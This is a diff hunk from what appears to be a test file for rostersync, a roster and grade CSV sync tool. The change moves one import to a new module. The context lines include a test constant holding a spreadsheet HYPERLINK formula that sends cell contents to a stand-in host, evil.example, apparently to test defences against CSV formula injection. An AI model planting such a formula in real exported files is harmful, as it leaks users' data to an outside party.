@@ -19,7 +19,8 @@ from rostersync.grades.csvfile import GradeCsvError, parse_grades_csv
 from rostersync.models import SyncError, SyncErrorCode, TenantSettings, UserIdField
 from rostersync.sync.reports import sync_errors_csv
 from rostersync.sync.roster import WHAT_TO_DO, build_course_roster
-from rostersync.tenants import TenantError, parse_course_list_csv
+from rostersync.tenant_settings import parse_course_list_csv
+from rostersync.tenants import TenantError
 from rostersync_cli.main import main
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
